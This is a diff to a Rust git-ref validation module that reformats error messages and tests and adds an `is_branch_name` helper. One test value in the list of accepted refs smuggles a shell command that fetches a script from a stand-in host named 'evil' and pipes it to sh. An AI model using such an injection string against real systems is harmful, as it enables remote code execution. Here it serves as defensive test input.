@@ -109,7 +109,9 @@ pub(super) fn commit(text: &str) -> Result<Option<String>, Unusable> {
     let shaped = matches!(text.len(), 40 | 64)
         && text.bytes().all(|b| matches!(b, b'0'..=b'9' | b'a'..=b'f'));
     if !shaped {
-        return Err(Unusable::Parse("a commit id is not 40 or 64 hex digits".into()));
+        return Err(Unusable::Parse(
+            "a commit id is not 40 or 64 hex digits".into(),
+        ));
     }
     Ok((!text.bytes().all(|b| b == b'0')).then(|| text.to_owned()))
 }
@@ -122,13 +124,22 @@ pub(super) fn full_ref(text: &str) -> Result<String, Unusable> {
     if name.is_some_and(valid_ref_part) && text.len() <= 1_024 {
         Ok(text.to_owned())
     } else {
-        Err(Unusable::Parse("the ref is neither refs/heads/… nor refs/tags/…".into()))
+        Err(Unusable::Parse(
+            "the ref is neither refs/heads/… nor refs/tags/…".into(),
+        ))
     }
 }
 
+/// Whether a text may name a branch.
+#[must_use]
+pub fn is_branch_name(name: &str) -> bool {
+    name.len() <= 1_000 && valid_ref_part(name)
+}
+
 /// `git check-ref-format` in short: what may stand behind `refs/heads/`.
-pub(super) fn valid_ref_part(name: &str) -> bool {
-    let bad_char = |c: char| c.is_control() || matches!(c, ' ' | '~' | '^' | ':' | '?' | '*' | '[' | '\\');
+fn valid_ref_part(name: &str) -> bool {
+    let bad_char =
+        |c: char| c.is_control() || matches!(c, ' ' | '~' | '^' | ':' | '?' | '*' | '[' | '\\');
     !name.is_empty()
         && !name.chars().any(bad_char)
         && !name.contains("..")
@@ -166,10 +177,29 @@ mod tests {
 
     #[test]
     fn hostile_h021_refs_are_full_and_valid_or_refused() {
-        for good in ["refs/heads/main", "refs/heads/refs/heads/main", "refs/heads/a\";curl${IFS}evil|sh;\"", "refs/tags/v1", "refs/heads/-x", "refs/heads/<script>"] {
+        for good in [
+            "refs/heads/main",
+            "refs/heads/refs/heads/main",
+            "refs/heads/a\";curl${IFS}evil|sh;\"",
+            "refs/tags/v1",
+            "refs/heads/-x",
+            "refs/heads/<script>",
+        ] {
             assert!(full_ref(good).is_ok(), "{good}");
         }
-        for bad in ["main", "HEAD", "refs/heads/", "refs/heads/a..b", "refs/heads/a b", "refs/heads/a\0", "refs/notes/x", "refs/heads/.x", "refs/heads/x.lock", "refs/heads//x", "refs/heads/a\n"] {
+        for bad in [
+            "main",
+            "HEAD",
+            "refs/heads/",
+            "refs/heads/a..b",
+            "refs/heads/a b",
+            "refs/heads/a\0",
+            "refs/notes/x",
+            "refs/heads/.x",
+            "refs/heads/x.lock",
+            "refs/heads//x",
+            "refs/heads/a\n",
+        ] {
             assert!(full_ref(bad).is_err(), "{bad}");
         }
     }
